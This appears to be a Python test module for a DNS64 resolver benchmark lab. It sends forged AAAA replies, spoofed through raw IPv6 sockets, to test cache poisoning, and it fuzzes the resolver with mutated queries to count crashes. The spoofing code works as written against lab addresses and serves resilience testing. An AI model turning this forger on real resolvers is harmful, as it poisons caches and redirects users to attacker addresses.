"""Forged replies and broken messages against the resolver of the DNS64 benchmark."""

from __future__ import annotations

import random
import socket
import struct
import threading
import time
from pathlib import Path

from bench.dns64_lab import SYNTHESISING, UPSTREAM, Lab, question
from bench.dns64_upstream import mutated

FORGED = bytes.fromhex("20010db8066600000000000000000001")  # 2001:db8:666::1
VICTIMS = 200
BURST = 2000
REPLY_FLAGS = b"\x81\x80\0\1\0\1\0\0\0\0"
NEXT_HEADER_UDP = 17


class Forger:
    """Sends replies that claim to come from the upstream, from a raw socket: address, port and question are right.

    It sees the ports that the resolver waits at, which an attacker elsewhere would have to guess; the message id it
    has to guess, and the case of the letters in the name.
    """

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._chance = random.Random(23)
        source, target = (socket.inet_pton(socket.AF_INET6, address) for address in (UPSTREAM, SYNTHESISING))
        self._ends = source + target
        self.sent = 0

    def __enter__(self) -> Forger:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def burst(self, count: int) -> None:
        """`count` replies with an AAAA record of the attacker's, for names that are being asked for."""
        ports = waiting_ports() or [self._chance.randrange(1024, 65536)]
        for _ in range(count):
            name = f"s{self._chance.randrange(VICTIMS)}.victim.example"
            asked = question(name, self._chance.randrange(65536))
            record = b"\xc0\x0c\0\x1c\0\1\0\1\x51\x80\0\x10" + FORGED
            message = asked[:2] + REPLY_FLAGS + asked[12:] + record
            self._send(self._chance.choice(ports), message)
        self.sent += count

    def _send(self, port: int, message: bytes) -> None:
        length = 8 + len(message)
        pseudo = self._ends + struct.pack("!IHBB", length, 0, 0, NEXT_HEADER_UDP)
        head = struct.pack("!HHHH", 53, port, length, 0)
        checksum = _checksum(pseudo + head + message)
        packet = struct.pack("!IHBB", 6 << 28, length, NEXT_HEADER_UDP, 64) + self._ends
        packet += head[:6] + struct.pack("!H", checksum or 0xFFFF) + message
        self._socket.sendto(packet, (SYNTHESISING, 0))


def waiting_ports() -> list[int]:
    """Ports of this namespace's UDP sockets that are connected to the upstream."""
    ports = []
    wanted = "000000FD000000000000000001000000"  # fd00::1 as the kernel writes it
    for line in Path("/proc/net/udp6").read_text().splitlines()[1:]:
        local, remote = line.split()[1:3]
        if remote.startswith(wanted) and remote.endswith(":0035"):
            ports.append(int(local.rpartition(":")[2], 16))
    return ports


def forge(count: int) -> tuple[int, int]:
    """Sends `count` forged replies while VICTIMS names wait for an answer; (sent, answers that held forged data)."""
    stop = threading.Event()
    accepted = 0

    def victims() -> None:
        nonlocal accepted
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
            client.connect((SYNTHESISING, 53))
            client.settimeout(0.05)
            while not stop.is_set():
                for number in range(VICTIMS):
                    client.send(question(f"s{number}.victim.example", number))
                until = time.monotonic() + 0.5
                while time.monotonic() < until and not stop.is_set():
                    try:
                        accepted += FORGED in client.recv(4096)
                    except TimeoutError:
                        continue

    thread = threading.Thread(target=victims)
    thread.start()
    try:
        with Forger() as forger:
            while forger.sent < count:
                forger.burst(min(BURST, count - forger.sent))
            return forger.sent, accepted
    finally:
        stop.set()
        thread.join()


def fuzz(lab: Lab, count: int, replies: int) -> tuple[int, int]:
    """Sends `count` broken questions, of which `replies` get a broken reply from the upstream; (sent, crashes)."""
    before = lab.wait(SYNTHESISING, lambda status: status.state == "Ready")
    chance = random.Random(6147)
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
        client.connect((SYNTHESISING, 53))
        client.setblocking(False)
        for number in range(count):
            if number % max(count // replies, 1) == 0:
                message = question(f"f{number}.fuzz.example", number & 0xFFFF, chance.choice((28, 1, 12, 255)))
            else:
                plain = question(f"v{chance.randrange(100)}.fuzz.example", number & 0xFFFF, chance.choice((28, 1, 12)))
                message = mutated(plain, chance)
            try:
                client.send(message or b"\0")
            except (BlockingIOError, ConnectionRefusedError):
                time.sleep(0.001)
            if number % 50 == 0:
                _drain(client)
    time.sleep(3)
    after = lab.wait(SYNTHESISING, lambda status: status.state == "Ready")
    return count, after.restarts - before.restarts


def _drain(client: socket.socket) -> None:
    try:
        while True:
            client.recv(4096)
    except (BlockingIOError, ConnectionRefusedError):
        return


def _checksum(octets: bytes) -> int:
    if len(octets) % 2:
        octets += b"\0"
    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
